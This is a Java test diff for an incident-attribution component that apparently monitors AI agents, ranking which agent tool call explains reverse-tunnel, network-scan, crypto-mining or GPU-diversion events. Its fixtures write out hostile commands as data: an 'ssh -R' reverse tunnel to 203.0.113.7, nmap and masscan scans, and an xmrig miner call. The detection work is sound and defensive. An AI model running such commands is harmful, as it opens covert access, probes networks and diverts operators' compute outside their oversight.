@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.vigil.models.agents.EpisodeAttribution.Anchor;
 import io.vigil.records.AgentEpisode;
 import io.vigil.records.AgentEvent;
+import io.vigil.records.Category;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.Collections;
@@ -111,5 +112,68 @@ class EpisodeAttributionTest {
                 .allSatisfy(e -> assertThat(e.getCalls()).hasSizeLessThanOrEqualTo(EpisodeAttribution.MAX_CALLS));
         assertThat(EpisodeAttribution.rank(reversed, anchors)).isEqualTo(ranked);
         assertThat(ranked.get(0).getEpisodeId()).isEqualTo("ep-11");
+    }
+
+    /**
+     * A reverse tunnel joins an incident of a network scan: the transition is explained by the call that opened the
+     * tunnel, though the scanner ran nearer in time to the anchors and names one of the scanned hosts.
+     */
+    @Test
+    void aTunnelJoiningAScanIsExplainedByTheSshCallNotTheScanner() {
+        List<AgentEvent> calls = List.of(
+                call("ep-scan", 3, 9_500, 40_000, "nmap -sS -p 22,80,443 10.0.50.7 10.0.50.8"),
+                call("ep-tunnel", 8, 2_000, 2_400, "ssh -f -N -R 2222:localhost:22 agent@203.0.113.7 -p 443"));
+        List<Anchor> anchors = List.of(
+                Anchor.flow(T0 + 10_000, "10.0.50.7", 22),
+                Anchor.flow(T0 + 10_000, "10.0.50.8", 80),
+                Anchor.flow(T0 + 4_000, "203.0.113.7", 443));
+
+        List<AgentEpisode> joined = EpisodeAttribution.rank(calls, anchors, List.of(Category.REVERSE_TUNNEL));
+
+        assertThat(joined).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-tunnel", "ep-scan");
+        assertThat(joined.get(0).getReason()).contains("203.0.113.7:443").contains("ssh -R");
+        // at the scan's own OPEN the scanner, naming its targets, is the cause
+        assertThat(EpisodeAttribution.rank(calls, anchors, List.of(Category.NETWORK_SCAN)))
+                .extracting(AgentEpisode::getEpisodeId)
+                .containsExactly("ep-scan", "ep-tunnel");
+    }
+
+    /** The category's tool outranks a nearer call of another category's tool, and one that names nothing at all. */
+    @Test
+    void theCategorysToolRanksAboveOtherToolsAndPlainCalls() {
+        List<AgentEvent> calls = List.of(
+                call("ep-mine", 5, 10_000, 11_000, "./xmrig -o pool.example.org:3333 --donate-level 1"),
+                call("ep-scan", 2, 58_000, 58_500, "masscan 10.0.0.0/16 -p22"),
+                call("ep-plain", 4, 59_000, 59_500, "python train_step.py"));
+        List<Anchor> anchors = List.of(Anchor.flow(T0 + 60_000, "203.0.113.80", 3333));
+
+        List<AgentEpisode> ranked = EpisodeAttribution.rank(calls, anchors, List.of(Category.CRYPTO_MINING));
+
+        assertThat(ranked).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-mine", "ep-scan", "ep-plain");
+        assertThat(ranked.get(0).getReason())
+                .contains("command names port 3333")
+                .contains("a miner");
+        // a miner's tool fits a foreign GPU process too; a scanner's does not
+        assertThat(EpisodeAttribution.rank(
+                        calls, List.of(Anchor.process(T0 + 60_000, "xmrig")), List.of(Category.GPU_DIVERSION)))
+                .extracting(AgentEpisode::getEpisodeId)
+                .first()
+                .isEqualTo("ep-mine");
+    }
+
+    /** A command names an address only as a whole: 10.0.0.1 is not named by 10.0.0.12 or 10.0.0.1.5. */
+    @Test
+    void anAddressIsNamedOnlyAsAWhole() {
+        Anchor anchor = Anchor.flow(T0, "10.0.0.1", 22);
+        assertThat(EpisodeAttribution.names("ssh agent@10.0.0.1 -R 9:localhost:22", anchor))
+                .isTrue();
+        assertThat(EpisodeAttribution.names("curl http://10.0.0.1:8080/x", anchor))
+                .isTrue();
+        assertThat(EpisodeAttribution.names("ping 10.0.0.12", anchor)).isFalse();
+        assertThat(EpisodeAttribution.names("ping 10.0.0.1.5", anchor)).isFalse();
+        assertThat(EpisodeAttribution.names("ping 110.0.0.1", anchor)).isFalse();
+        assertThat(EpisodeAttribution.namesPort("ssh -p 443 a@h", 443)).isTrue();
+        assertThat(EpisodeAttribution.namesPort("ssh -p 4430 a@h", 443)).isFalse();
+        assertThat(EpisodeAttribution.namesPort("curl https://h:443/", 443)).isTrue();
     }
 }
